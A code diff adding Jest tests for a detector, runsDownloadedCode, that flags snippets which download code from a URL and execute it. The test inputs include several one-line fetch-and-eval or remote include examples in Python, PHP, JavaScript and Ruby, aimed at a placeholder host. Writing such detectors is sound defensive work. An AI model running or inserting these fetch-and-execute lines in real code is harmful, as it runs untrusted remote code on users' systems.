@@ -1,4 +1,9 @@
-import { fileWritesIn, recursiveDeletesIn, shellCommandsIn } from "../../lambdas/core/shell/foreign-code";
+import {
+  fileWritesIn,
+  recursiveDeletesIn,
+  runsDownloadedCode,
+  shellCommandsIn,
+} from "../../lambdas/core/shell/foreign-code";
 
 describe("shellCommandsIn", () => {
   it.each([
@@ -41,5 +46,19 @@ describe("recursiveDeletesIn", () => {
     ["require('fs').rmSync('a.txt')", []],
   ])("%s deletes %j", (code, expected) => {
     expect(recursiveDeletesIn(code)).toEqual(expected);
+  });
+});
+
+describe("runsDownloadedCode", () => {
+  it.each([
+    ["import urllib.request; exec(urllib.request.urlopen('https://x/i.py').read())", true],
+    ["eval(file_get_contents('https://x/i.php'));", true],
+    ["fetch('https://x/i.js').then((r) => r.text()).then(eval)", true],
+    ["require 'open-uri'; eval URI.open('https://x/i.rb').read", true],
+    ["include 'http://x/i.php';", true],
+    ["import requests; print(requests.get('https://x/api').json())", false],
+    ["exec(open('local.py').read())", false],
+  ])("%s: %s", (code, expected) => {
+    expect(runsDownloadedCode(code)).toBe(expected);
   });
 });
